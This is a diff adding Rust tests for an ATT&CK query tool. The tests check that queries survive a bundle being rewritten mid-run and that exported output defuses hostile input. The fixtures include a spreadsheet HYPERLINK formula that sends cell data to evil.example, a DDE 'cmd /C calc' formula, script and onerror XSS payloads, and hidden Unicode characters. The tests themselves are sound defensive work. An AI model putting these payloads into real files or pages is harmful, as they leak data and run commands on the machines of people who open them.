@@ -643,3 +643,205 @@ fn endless_inputs_are_cut_off_at_the_limit() {
     let r = env.run(&sample, false, &["map", "/dev/zero"]);
     assert_one_line_error(&r, "/dev/zero is too large (more than 256 MiB");
 }
+
+#[test]
+fn a_bundle_rewritten_in_place_during_queries_never_kills_them() {
+    use std::os::unix::process::ExitStatusExt;
+    use std::sync::atomic::{AtomicBool, Ordering};
+    // Two versions of a 4 MiB bundle (padded with spaces, so the whole file is read) that
+    // differ in one technique's name and in size, rewritten in place over and over (as `cp`
+    // does: truncate, then write) while 100 queries run, half through the cache.
+    let env = Env::new();
+    let sample =
+        fs::read_to_string(crate::common::sample_dir().join("enterprise-attack-2.0.json")).unwrap();
+    assert!(sample.contains("\"Scripted Launch\""));
+    let padded = |name: &str, pad: usize| {
+        let mut b = sample.replace("\"Scripted Launch\"", name).into_bytes();
+        b.resize((4 << 20) + pad, b' ');
+        b
+    };
+    let (a, b) = (
+        padded("\"Scripted Launch\"", 0),
+        padded("\"Scripted Lbunch\"", 4096),
+    );
+    let bundle = env.write("enterprise-attack-2.0.json", &a);
+    let stop = AtomicBool::new(false);
+    let runs: Vec<(String, std::process::Output)> = std::thread::scope(|s| {
+        s.spawn(|| {
+            while !stop.load(Ordering::Relaxed) {
+                for v in [&a, &b] {
+                    fs::write(&bundle, v).unwrap();
+                }
+            }
+        });
+        let runs = (0..100)
+            .map(|i| {
+                let mut cmd = attck_in(&env.dir.path().join("home"));
+                cmd.args(["--bundle", bundle.to_str().unwrap()]);
+                if i % 2 == 0 {
+                    cmd.arg("--no-cache");
+                }
+                let out = cmd
+                    .args(["technique", "T1059", "-f", "json"])
+                    .output()
+                    .unwrap();
+                (format!("query {i}"), out)
+            })
+            .collect();
+        stop.store(true, Ordering::Relaxed);
+        runs
+    });
+    let mut answered = 0;
+    for (what, out) in &runs {
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(
+            out.status.signal().is_none(),
+            "{what} was killed by signal {:?}: {stderr}",
+            out.status.signal()
+        );
+        match out.status.code() {
+            Some(0) => {
+                let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+                assert!(
+                    v["name"] == "Scripted Launch" || v["name"] == "Scripted Lbunch",
+                    "{what}: {}",
+                    v["name"]
+                );
+                answered += 1;
+            }
+            Some(2) => {
+                assert!(out.stdout.is_empty(), "{what}");
+                assert_eq!(stderr.lines().count(), 1, "{what}: {stderr}");
+                assert!(stderr.starts_with("attck: "), "{what}: {stderr}");
+            }
+            other => panic!("{what}: exit {other:?}: {stderr}"),
+        }
+    }
+    // Once the writes stop, the answer is the last bundle's, never a cache of another state.
+    let r = env.run(&bundle, true, &["technique", "T1059", "-f", "json"]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stdout.contains("Scripted Lbunch"), "{}", r.stdout);
+    eprintln!("{answered} of 100 queries answered while the bundle was rewritten");
+}
+
+/// The cells of a CSV document (RFC 4180: quoted cells may hold commas, quotes and newlines).
+fn csv_cells(text: &str) -> Vec<String> {
+    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (c, quoted) {
+            ('"', true) if chars.peek() == Some(&'"') => {
+                cell.push('"');
+                chars.next();
+            }
+            ('"', _) => quoted = !quoted,
+            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
+            (c, _) => cell.push(c),
+        }
+    }
+    assert!(!quoted, "an unterminated quote in {text:?}");
+    cells
+}
+
+#[test]
+fn formulas_html_and_invisible_characters_from_the_bundle_are_defused() {
+    let env = Env::new();
+    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+    let html = "<script>alert(1)</script> and <img src=x onerror=alert(2)>";
+    let hidden = "Pass\u{200b}wo\u{200c}r\u{200d}d\u{2060}\u{feff}\u{e0041}\u{e007f}";
+    let group = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let mut objects = base();
+    objects.extend([
+        with(
+            technique("attack-pattern--1", "T1000", formula),
+            "description",
+            json!(format!("{html} {hidden}")),
+        ),
+        with(
+            technique("attack-pattern--2", "T1001", "+1-1 sum"),
+            "x_mitre_platforms",
+            json!(["-2+3", "\t=1+1", "\r@x"]),
+        ),
+        with(
+            technique("attack-pattern--3", "T1002", hidden),
+            "description",
+            json!(html),
+        ),
+        json!({"type": "intrusion-set", "id": "intrusion-set--1", "name": group,
+               "aliases": [group, "-cmd", hidden], "description": html,
+               "external_references": ext("G0001")}),
+        with(
+            rel(1, "uses", "intrusion-set--1", "attack-pattern--1"),
+            "description",
+            json!(format!("={html}")),
+        ),
+        rel(2, "uses", "intrusion-set--1", "attack-pattern--2"),
+    ]);
+    let p = env.bundle("formulas.json", &objects);
+    let ids = env.write("ids.txt", b"T1000\nT1001\n");
+    let commands: [&[&str]; 9] = [
+        &["technique", "T1000", "-v"],
+        &["technique", "T1001"],
+        &["list", "techniques"],
+        &["list", "groups"],
+        &["tactic", "execution"],
+        &["search", "sum"],
+        &["show", "G0001", "-v"],
+        &["matrix"],
+        &["coverage", ids.to_str().unwrap()],
+    ];
+    let invisible = [
+        '\u{200b}',
+        '\u{200c}',
+        '\u{200d}',
+        '\u{2060}',
+        '\u{feff}',
+        '\u{e0041}',
+    ];
+    for cmd in commands {
+        for format in ["csv", "markdown", "table"] {
+            let mut args = cmd.to_vec();
+            args.extend(["-f", format]);
+            let r = env.run_all(&p, &args);
+            assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
+            for c in invisible {
+                assert!(!r.stdout.contains(c), "{args:?}: {c:?} in {:?}", r.stdout);
+            }
+            if format == "csv" {
+                for cell in csv_cells(&r.stdout) {
+                    assert!(
+                        !cell
+                            .trim_start_matches(' ')
+                            .starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{args:?}: a formula cell {cell:?}"
+                    );
+                }
+                assert!(
+                    r.stdout.contains("'=HYPERLINK") || cmd[0] != "technique" || cmd[1] != "T1000",
+                    "{args:?}: {}",
+                    r.stdout
+                );
+            }
+            if format == "markdown" {
+                for raw in ["<script", "<img", "</script"] {
+                    assert!(!r.stdout.contains(raw), "{args:?}: {raw} in {}", r.stdout);
+                }
+            }
+        }
+    }
+    let r = env.run_all(&p, &["technique", "T1000", "-f", "markdown", "-v"]);
+    assert!(
+        r.stdout.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+        "{}",
+        r.stdout
+    );
+    assert!(r.stdout.contains("Password"), "{}", r.stdout);
+    // JSON keeps the text exactly.
+    let r = env.run_all(&p, &["technique", "T1000", "-f", "json"]);
+    let t: contract::Technique = r.json();
+    assert_eq!(t.name, formula);
+    assert_eq!(t.description, format!("{html} {hidden}"));
+    let r = env.run_all(&p, &["technique", "T1002", "-f", "json"]);
+    let t: contract::Technique = r.json();
+    assert_eq!(t.name, hidden);
+}
